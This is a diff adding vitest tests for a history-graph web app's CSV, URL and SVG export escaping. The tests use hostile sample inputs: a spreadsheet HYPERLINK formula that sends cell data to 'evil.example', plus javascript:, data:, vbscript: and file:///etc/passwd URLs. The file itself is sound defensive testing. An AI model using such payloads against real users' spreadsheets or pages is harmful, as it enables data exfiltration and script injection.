@@ -2,8 +2,9 @@
 import { describe, expect, it } from 'vitest';
 import { dayRange, isUncertain, pathDiff, pathElementIds, sceneElements, validAt, type SceneEdge } from '../../web/graph-model.ts';
 import { DEFAULT_VIEW, decodeView, encodeView, type View } from '../../web/permalink.ts';
-import { pathsCsv, pathsJson, toSvg } from '../../web/exports.ts';
+import { pathsCsv, pathsJson, toSvg, webUrl } from '../../web/exports.ts';
 import type { Link, NodeBrief, Path, PathResult } from '../../web/types.ts';
+import { XMLParser, XMLValidator } from 'fast-xml-parser';
 
 const source = { id: 'source/waage-2004', name: 'Waage', title: 'Peacemaking Is a Risky Business', author: 'H. H. Waage', outlet: 'PRIO', date: '2004', url: 'https://www.prio.org/' };
 const person = (slug: string, name: string, side = 'israeli', offices: NodeBrief['offices'] = []): NodeBrief => ({ __typename: 'Person', id: `person/${slug}`, kind: 'PERSON', name, side, offices });
@@ -117,6 +118,41 @@ describe('exports', () => {
     const json = JSON.parse(pathsJson({ from: 'person/yossi-beilin', to: 'person/yitzhak-rabin' }, result, 'http://x/#from=a'));
     expect(json.bibliography).toEqual([{ id: source.id, title: source.title, author: source.author, outlet: source.outlet, date: source.date, url: source.url }]);
     expect(json.paths[0].hops.map((h: { linkId: string }) => h.linkId)).toEqual(['link/beilin-peres', 'link/peres-rabin']);
+  });
+
+  it('write path CSV that a spreadsheet shows as text and never runs as a formula', () => {
+    const evil = person('evil', '=HYPERLINK("http://evil.example/?x="&A1,"click")');
+    const hop = link('link/evil', evil, rabin, { sentence: '+1 briefed @someone', citations: [{ source: { ...source, title: '-2+3', url: 'javascript:alert(1)' }, locator: '\tcmd' }] });
+    const rows = pathsCsv({ ...result, paths: [path(1, [hop], [evil, rabin])] }).trim().split('\r\n');
+    expect(rows[1]).toBe([
+      '1', '1', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`, 'BRIEFED', 'Yitzhak Rabin', "'+1 briefed @someone", 'c. Feb 1993', '1993-02-01',
+      'high', 'yes', 'possible', '0.700', '1993-03-01', `"'-2+3, \tcmd"`, '',
+    ].join(','));
+  });
+
+  it('link sources only to http and https addresses', () => {
+    expect(webUrl('https://www.prio.org/')).toBe('https://www.prio.org/');
+    expect(webUrl('http://example.org/a?b')).toBe('http://example.org/a?b');
+    for (const bad of ['javascript:alert(1)', 'JavaScript:alert(1)', 'data:text/html,<script>1</script>', 'vbscript:x', 'file:///etc/passwd', '//evil.example', 'not a url', '', null]) {
+      expect(webUrl(bad)).toBeUndefined();
+    }
+    const json = JSON.parse(pathsJson({ from: 'a', to: 'b' }, { ...result, paths: [path(1, [link('l', beilin, rabin, { citations: [{ source: { ...source, url: 'javascript:alert(1)' }, locator: null }] })], [beilin, rabin])] }, 'http://x/'));
+    expect(json.bibliography[0].url).toBeNull();
+  });
+
+  it('write SVG that stays well-formed XML whatever a name contains', () => {
+    const names = ['a\u0000b\u0007c\u001Fd', 'lone \uD800 high', 'lone \uDC00 low', 'pair 😀 ok', "it's <b>&amp;</b> \"q\"", ']]><!--', '\uFFFE\uFFFF'];
+    const svg = toSvg(names.map((label, i) => ({ type: 'node' as const, id: `n${i}"'<>&`, x: i * 10, y: 0, w: 20, h: 20, shape: 'ellipse', colour: '#fff', border: '#000', borderWidth: 1, opacity: 1, label })));
+    expect(XMLValidator.validate(svg)).toBe(true);
+    // XML 1.0's Char production: anything else makes every conforming parser stop.
+    expect(svg.match(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu)).toBeNull();
+    const parsed = new XMLParser({ ignoreAttributes: false, htmlEntities: false }).parse(svg);
+    const groups = parsed.svg.g as { '@_data-id': string; text: string | { '#text': string } }[];
+    expect(groups.map((g) => g['@_data-id'])).toEqual(names.map((_, i) => `n${i}"'<>&`));
+    expect(svg).toContain('>abcd</text>');
+    expect(svg).toContain('>lone  high</text>');
+    expect(svg).toContain('>pair 😀 ok</text>');
+    expect(svg).toContain('>it&apos;s &lt;b&gt;&amp;amp;&lt;/b&gt; &quot;q&quot;</text>');
   });
 
   it('write SVG that escapes labels', () => {
